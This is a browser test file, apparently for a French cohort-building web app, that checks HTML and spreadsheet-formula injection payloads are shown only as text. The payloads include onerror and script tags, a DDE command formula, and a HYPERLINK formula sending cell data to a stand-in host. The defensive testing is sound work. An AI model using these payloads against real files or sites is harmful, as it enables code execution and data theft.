// Names and labels that are made to be run: markup in a page and in a report, formulas in a
// spreadsheet. They are shown as they are, and nothing comes of them.
import assert from 'node:assert/strict';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { unzipSync } from 'fflate';
import { scratch } from '../web/cli/support.js';
import { assertKeptToItself, openPage } from './harness.js';
import { download, giveFiles, goOn, runToVerify } from './page_support.js';

const kImage = '<img src=x onerror=hacked()>';
const kScript = '"><script>hacked()</script>';
const kFormula = "=cmd|' /C calc'!A0";
const kLink = '=HYPERLINK("http://paravent.invalid/?"&A1,"x")';
const kFile = 'a<img src=x onerror=hacked()>.csv';
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

const kHeader = ['CODE_INDIVIDU', 'ANNEE_INSCRIPTION', 'CODE_ETAPE', 'SEXE', kImage].map(quoted);
const kRows = Array.from({ length: 80 }, (_, i) =>
  [
    `i${i}`,
    '2013',
    [kImage, kScript, kFormula, kLink, '@SUM(A1)'][i % 5],
    [kFormula, kImage][i % 2],
    kScript,
  ]
    .map(quoted)
    .join(';'),
);
const kCsv = `${kHeader.join(';')}\n${kRows.join('\n')}\n`;
const kRecipe = {
  version: 1,
  columns: {
    individual: 'CODE_INDIVIDU',
    year: 'ANNEE_INSCRIPTION',
    step: ['CODE_ETAPE'],
    attributes: [
      { name: 'sexe', columns: ['SEXE'] },
      { name: 'autre', columns: [kImage] },
    ],
  },
  exports: { excel_fr: true },
};

describe('what is made to be run', () => {
  let opened;
  let files;
  let dossier;
  const page = () => opened.page;
  const assertText = async (where) => {
    const made = await page().evaluate(() =>
      [
        ...document.querySelectorAll(
          'img, iframe, object, ' + 'embed, [onerror], script:not([type=module])',
        ),
      ].map((one) => one.outerHTML),
    );
    assert.deepEqual(made, [], where);
    assert.equal(await page().evaluate(() => window.hacks), 0, where);
  };

  before(async () => {
    opened = await openPage({
      inPage: () => {
        window.hacks = 0;
        window.hacked = () => {
          window.hacks += 1;
        };
      },
    });
  });
  after(() => opened.close());

  test('is text on every screen of the flow', async () => {
    await page().setInputFiles('#load-recipe', {
      name: `${kFile}.json`,
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(kRecipe)),
    });
    await page().locator('[role=status]', { hasText: 'onerror' }).first().waitFor();
    await assertText('recipe');
    await giveFiles(page(), [kFile, kCsv]);
    assert.ok((await page().locator('#file-0 th').textContent()).includes(kFile));
    assert.ok((await page().locator('.preview').textContent()).includes(kImage), 'shown as it is');
    await assertText('choose');
    await goOn(page(), '.columns');
    await page().locator('.traces li').first().waitFor();
    await assertText('describe');
    await goOn(page(), '#masking-k');
    await goOn(page(), '.task progress, .trace-grid');
    await page().locator('.trace-grid .line:not(.head) .stop').first().waitFor();
    assert.ok((await page().locator('.trace-grid').textContent()).includes(kImage));
    await assertText('verify');
    await page().locator('.trace-grid').focus();
    await page().keyboard.press('Home');
    await page().keyboard.press('Enter');
    await page().locator('dialog table').first().waitFor();
    await assertText('a cohort');
    await page().keyboard.press('Escape');
    await goOn(page(), '#zip');
    await page().locator('#zip').waitFor();
    await assertText('download');
  });

  test('is text in an error', async () => {
    await page().locator('.steps button').first().click();
    await giveFiles(page(), [`b${kFile}`, `${kHeader.join(';')}\n`]);
    assert.ok((await page().locator('#file-1').textContent()).includes(kFile));
    await assertText('a file at fault');
    await page()
      .getByRole('button', { name: /^Retirer le fichier b/ })
      .click();
    await page().locator('.waiting').waitFor({ state: 'detached' });
    await page().setInputFiles('#load-recipe', {
      name: kFile,
      mimeType: 'application/json',
      buffer: Buffer.from(`{"version":1,"${kImage.replaceAll('"', '')}":1}`),
    });
    await page().locator('#error').waitFor();
    await assertText('an error');
    await page().getByRole('button', { name: 'Masquer ce message' }).click();
  });

  test('is kept as data in the files, and made harmless in the copies for Excel', async () => {
    await page().setInputFiles('#load-recipe', {
      name: 'r.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(kRecipe)),
    });
    await page().locator('[role=status]', { hasText: 'r.json' }).first().waitFor();
    await runToVerify(page());
    await goOn(page(), '#zip');
    const zip = await download(page(), () => page().click('#zip'));
    files = Object.fromEntries(
      Object.entries(unzipSync(zip.bytes)).map(([name, bytes]) => [
        name,
        new TextDecoder().decode(bytes),
      ]),
    );
    assert.ok(files['cohortes.csv'].includes(kFormula), 'the plain file is the data');
    const excel = Object.entries(files).filter(([name]) => /excel/i.test(name));
    assert.ok(excel.length > 1, Object.keys(files).join());
    for (const [name, text] of excel) {
      for (const field of text.split(/[;\r\n]/)) assert.doesNotMatch(field, /^"?[=+@\t-]/, name);
    }
    assert.ok(excel.some(([, text]) => text.includes(`'${kFormula}`)));
    ({ bytes: dossier } = await download(page(), () => page().click('#dossier-html')));
    await assertKeptToItself(opened);
  });

  test('is text in the dossier and in the notice, opened by themselves', async (t) => {
    const folder = await scratch(t);
    const path = await folder.write('dossier.html', dossier);
    await page().goto(pathToFileURL(path).href);
    assert.ok((await page().locator('body').textContent()).includes(kFile), 'it is there, as text');
    await assertText('the dossier');
    const notice = files['LISEZMOI.md'];
    assert.ok(notice.length > 100);
    assert.doesNotMatch(notice, /^[^`]*<(?:img|script)/m, 'markup stands in code alone');
    assert.deepEqual(opened.watch.violations, []);
  });
});
